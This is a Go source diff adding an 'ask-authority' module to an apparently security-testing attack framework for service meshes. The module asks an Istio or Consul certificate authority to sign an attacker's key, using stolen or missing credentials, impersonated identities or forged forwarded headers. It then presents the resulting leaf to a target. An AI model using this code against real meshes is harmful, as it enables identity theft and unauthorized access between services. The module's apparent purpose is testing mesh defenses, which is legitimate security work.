@@ -1,0 +1,215 @@
+package attacks
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net/netip"
+	"strings"
+	"time"
+
+	"github.com/meshbreach/meshbreach/attacker"
+)
+
+// AskAuthority has the parameters of ask-authority.
+type AskAuthority struct {
+	Call
+	// Token is the credential, sent as a bearer token.
+	Token *attacker.Token `json:"token,omitempty"`
+	// Leaf is the credential, presented as a client certificate. Without
+	// either, nothing is.
+	Leaf *attacker.Leaf `json:"leaf,omitempty"`
+	// As names the cast members whose identities the request asks for; whose
+	// the credential is when empty.
+	As []string `json:"as,omitempty"`
+	// Validity is the life to ask for; the authority's own when zero.
+	Validity attacker.Duration `json:"validity,omitempty"`
+	// AtLeast is the life below which the leaf is not worth having: a shorter
+	// one is taken for a refusal and is not used.
+	AtLeast attacker.Duration `json:"atLeast,omitempty"`
+	// Impersonate names a cast member in the metadata by which Istio's node
+	// proxies ask for others.
+	Impersonate string `json:"impersonate,omitempty"`
+	// Forwarded names a cast member in the header by which a gateway says
+	// whose certificate it saw.
+	Forwarded string `json:"forwarded,omitempty"`
+	// Every repeats the attempt at this interval until it is stopped.
+	Every attacker.Duration `json:"every,omitempty"`
+	// For ends the series.
+	For attacker.Duration `json:"for,omitempty"`
+}
+
+// Holds asks for the credentials.
+func (p *AskAuthority) Holds() ([]*attacker.Leaf, []*attacker.Token) {
+	var leaves []*attacker.Leaf
+	if p.Leaf != nil {
+		leaves = append(leaves, p.Leaf)
+	}
+	return leaves, tokens(p.Token)
+}
+
+// Lasts says whether the attempt is repeated until it is stopped.
+func (p *AskAuthority) Lasts() bool { return p.Every > 0 && p.For == 0 }
+
+// Check refuses parameters that contradict each other.
+func (p *AskAuthority) Check() error {
+	return errors.Join(
+		refuse(p.Leaf != nil && p.Leaf.Of == "", "leaf: a credential is of somebody"),
+		refuse(p.Validity < 0 || p.AtLeast < 0 || p.Every < 0 || p.For < 0, "validity, atLeast, every and for cannot be negative"),
+		refuse(p.For > 0 && p.Every == 0, "for ends a series, and every makes one"),
+		checkTokens(p.Token),
+		p.Call.Check(),
+	)
+}
+
+// identities are the cast members that the request names.
+func (p *AskAuthority) identities() []string {
+	switch {
+	case len(p.As) > 0:
+		return p.As
+	case p.Token != nil && p.Token.Of != "":
+		return []string{p.Token.Of}
+	case p.Leaf != nil && p.Leaf.Of != "":
+		return []string{p.Leaf.Of}
+	}
+	return nil
+}
+
+func askAuthority() attacker.Attack {
+	return attacker.New("ask-authority", "Ask the mesh's authority for a leaf",
+		`Asks the mesh's certificate authority, by its own protocol, to sign a key of
+the attacker's: with a token, with a stolen leaf, or with nothing; for the
+identity that the credential belongs to, for another's, or for several at
+once; for a life of its own choice. A leaf that was issued is then presented
+straight to the target with a request, past any proxy of the foothold, since
+only the target's answer shows what the leaf is worth. What the authority
+says is told at layer ca.`,
+		func(ctx context.Context, f attacker.Foothold, t attacker.Target, nonce func() string, p AskAuthority, emit func(attacker.Observation)) error {
+			ask, err := p.request(t)
+			if err != nil {
+				return err
+			}
+			if p.For > 0 {
+				var cancel context.CancelFunc
+				ctx, cancel = context.WithTimeout(ctx, time.Duration(p.For))
+				defer cancel()
+			}
+			for {
+				// A stop lets the one under way end: cut off, it would look refused.
+				o, err := ask.once(context.WithoutCancel(ctx), f, p.knock(nonce(), t, HTTP1), serverName(t))
+				if err != nil {
+					return err
+				}
+				emit(o)
+				if p.Every == 0 || !rest(ctx, time.Duration(p.Every)) {
+					return nil
+				}
+			}
+		})
+}
+
+// rest waits; false when the context ended first.
+func rest(ctx context.Context, d time.Duration) bool {
+	left := time.NewTimer(d)
+	defer left.Stop()
+	select {
+	case <-ctx.Done():
+		return false
+	case <-left.C:
+		return true
+	}
+}
+
+// request is what p means at a target's authority.
+func (p *AskAuthority) request(t attacker.Target) (asking, error) {
+	a := asking{validity: time.Duration(p.Validity), atLeast: time.Duration(p.AtLeast)}
+	if t.Authority == nil {
+		return a, errors.New("this mesh has no authority that workloads could ask")
+	}
+	if len(p.identities()) == 0 {
+		return a, errors.New("without a credential of somebody, as has to say whose identity is asked for")
+	}
+	a.authority = *t.Authority
+	uri := func(name string) (string, error) {
+		if name == "" {
+			return "", nil
+		}
+		id, ok := t.Authority.Identities[name]
+		if !ok {
+			return "", fmt.Errorf("nobody knows the identity of %q", name)
+		}
+		return id, nil
+	}
+	var err error
+	for _, name := range p.identities() {
+		id, err := uri(name)
+		if err != nil {
+			return a, err
+		}
+		a.uris = append(a.uris, id)
+	}
+	if a.impersonate, err = uri(p.Impersonate); err != nil {
+		return a, err
+	}
+	if a.forwarded, err = uri(p.Forwarded); err != nil {
+		return a, err
+	}
+	if a.token, err = bearer(p.Token); err != nil {
+		return a, err
+	}
+	if p.Leaf != nil {
+		if a.leaf = p.Leaf.Held; a.leaf == nil {
+			return a, fmt.Errorf("no leaf of %s is held", p.Leaf.Of)
+		}
+	}
+	return a, nil
+}
+
+// asking is one request for a leaf, ready to be made.
+type asking struct {
+	authority              attacker.Authority
+	uris                   []string
+	token                  string
+	leaf                   *attacker.KeyPair
+	impersonate, forwarded string
+	validity, atLeast      time.Duration
+}
+
+// once asks for a leaf and uses it. An error means that it could not be tried.
+func (a asking) once(ctx context.Context, f attacker.Foothold, k attacker.Knock, server string) (attacker.Observation, error) {
+	key, csr, err := newRequest(a.uris)
+	if err != nil {
+		return attacker.Observation{}, err
+	}
+	var chain string
+	var o attacker.Observation
+	switch a.authority.Protocol {
+	case protocolIstio:
+		chain, o = a.istio(ctx, f, k.Nonce, csr)
+	case protocolConsul:
+		chain, o = a.consul(ctx, f, k.Nonce, csr)
+	default:
+		return o, fmt.Errorf("an authority that speaks %q is not known here", a.authority.Protocol)
+	}
+	if o.Refusal != nil {
+		if o.Refusal.Ruled() {
+			o.Refusal.Layer = attacker.LayerCA
+		}
+		return o, nil
+	}
+	leaf, err := issued(chain)
+	switch {
+	case err != nil:
+		o.Reply, o.Refusal = nil, &attacker.Refusal{Layer: attacker.LayerGRPC, Text: "the answer holds no leaf: " + err.Error()}
+		return o, nil
+	case a.atLeast > 0 && leaf.NotAfter.Sub(o.End) < a.atLeast:
+		o.Reply, o.Refusal = nil, &attacker.Refusal{Layer: attacker.LayerCA, Text: fmt.Sprintf("issued %s until %s, which is not the life that was asked for",
+			strings.Join(uris(leaf), " "), leaf.NotAfter.UTC().Format(time.RFC3339))}
+		return o, nil
+	}
+	k.TLS = &attacker.TLS{Leaf: &attacker.KeyPair{Chain: chain, Key: key}, ServerName: server, ALPN: alpnFor(HTTP1)}
+	used := f.Knock(ctx, k)
+	used.Start = o.Start
+	used.Errands = append([]netip.AddrPort{o.Local}, o.Errands...)
+	return used, nil
+}
